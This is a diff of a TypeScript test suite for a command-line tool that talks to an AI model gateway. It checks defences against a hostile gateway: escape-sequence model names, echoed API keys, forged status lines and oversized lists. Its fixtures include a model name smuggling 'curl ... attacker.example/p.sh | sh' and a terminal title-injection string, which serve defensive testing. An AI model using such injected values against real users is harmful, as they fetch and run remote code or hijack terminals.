@@ -278,20 +278,21 @@ describe('7. a gateway cannot drive the terminal', () => {
     return text;
   };
 
-  it('models, doctor and setup show model ids with their control characters escaped', async () => {
+  it('model ids with control characters are never shown as such: left out of every list, and counted', async () => {
     expect((await sb.setup(KEY, ['--base-url', gw.base])).code).toBe(0);
     gw.models = HOSTILE;
     const models = await sb.run(['models'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
-    expect(clean(models.all)).toContain('\\x1b]0;pwned\\x07gpt-5.4-nano');
+    expect(clean(models.all)).toContain('Models served by');
+    expect(models.all).not.toContain('pwned');
     const doctor = await sb.run(['doctor'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
-    clean(doctor.all);
-    // A model the gateway does not serve: setup names the closest served ones.
+    expect(clean(doctor.all)).toContain('with 2 models (6 with characters no model name has left out)');
+    // A model the gateway does not serve: setup names the closest served ones, all of them plain names.
     gw.models = HOSTILE.filter((m) => m !== 'gpt-5.4');
     const setup = await sb.setup(KEY, ['--base-url', gw.base, '--model', 'gpt-5.4']);
-    expect(clean(setup.all)).toContain('\\x1b');
-    // --json escapes as JSON does.
-    const json = await sb.run(['models', '--json'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
-    expect(json.stdout).toContain('\\u001b]0;pwned\\u0007gpt-5.4-nano');
+    expect(clean(setup.all)).toContain('closest served: gpt-5.4-mini');
+    expect(setup.all).not.toContain('pwned');
+    const json = JSON.parse((await sb.run(['models', '--json'], { env: { LIGHTWEIGHT_API_KEY: KEY } })).stdout) as { models: Array<{ id: string }> };
+    expect(json.models.map((m) => m.id)).toEqual(['gpt-5.4-mini']);
   });
 
   it("a gateway's error message and a config file's values are shown escaped too", async () => {
@@ -419,5 +420,66 @@ describe('11. no self-inflicted hangs or crashes', () => {
     const r = await sb.setup(KEY, ['--no-verify', '--rc-file', '~/myrc', '--shell', 'bash']);
     expect(r.code, r.all).toBe(2);
     expect(r.stderr).toContain("the tool's own directory");
+  });
+});
+
+describe('12. a key the gateway echoes is masked everywhere it is shown (issue 21, 7)', () => {
+  const echoing = () =>
+    gw.behave({ kind: 'status', status: 401, body: JSON.stringify({ error: { message: `Incorrect API key provided: ${KEY}. You can find your key in the dashboard.` } }) });
+
+  it('setup, doctor, doctor --json, models and models --test show ****<last 4>, never the key', async () => {
+    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
+    echoing();
+    const outputs = [
+      await sb.setup(KEY, ['--base-url', gw.base]),
+      await sb.run(['doctor'], { env: { LIGHTWEIGHT_API_KEY: KEY } }),
+      await sb.run(['doctor', '--json']),
+      await sb.run(['doctor', '--live']),
+      await sb.run(['models']),
+      await sb.run(['models', '--json']),
+      await sb.run(['models', '--test', '--json']),
+    ];
+    for (const r of outputs) {
+      expect(r.all).not.toContain(KEY);
+      expect(r.all).not.toContain(KEY.slice(0, 16));
+    }
+    // Still said: what the gateway answered, with the key masked.
+    expect(outputs[0]!.stdout).toContain(`Incorrect API key provided: ****${KEY.slice(-4)}`);
+    expect(outputs[2]!.stdout).toContain(`Incorrect API key provided: ****${KEY.slice(-4)}`);
+  });
+});
+
+describe('13. model names and model lists from a hostile gateway (issue 21, 8 and 9)', () => {
+  const EVIL = 'gpt-5.4-mini; curl -s https://attacker.example/p.sh | sh #';
+
+  it('names no model can have are left out, counted, and never printed raw; a line feed forges no [ok] line', async () => {
+    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
+    gw.models = ['gpt-5.4', EVIL, 'evil\n[ok] gpt-5.4 is served', 'esc\u001b]0;owned\u0007'];
+    const list = await sb.run(['models']);
+    expect(list.code, list.all).toBe(0);
+    expect(list.stdout).not.toMatch(/^\[ok\]/m);
+    expect(list.all).not.toContain('attacker.example');
+    expect(list.all).not.toContain('\u001b');
+    const json = JSON.parse((await sb.run(['models', '--json'])).stdout) as { models: Array<{ id: string }> };
+    expect(json.models.map((m) => m.id)).toEqual(['gpt-5.4']);
+    const d = await sb.run(['doctor', '--json'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
+    expect(d.stdout).toContain('with 1 model (3 with characters no model name has left out)');
+  });
+
+  it('a model answering under such a name: no command is built from it', async () => {
+    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
+    gw.answerAs = EVIL;
+    const r = await sb.run(['doctor', '--live'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
+    expect(r.all).toContain('a model whose name no model has: ask its operator');
+    expect(r.all).not.toMatch(/--model gpt-5\.4-mini;/);
+  });
+
+  it('5,000 models: the first 100 are listed, the rest counted, and nothing grows past its bound', async () => {
+    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
+    gw.models = Array.from({ length: 5000 }, (_, i) => `model-${i}`);
+    const json = JSON.parse((await sb.run(['models', '--json'])).stdout) as { models: unknown[] };
+    expect(json.models).toHaveLength(100);
+    const d = await sb.run(['doctor', '--json'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
+    expect(d.stdout).toContain('with 100 models (4900 beyond the first 100 left out)');
   });
 });
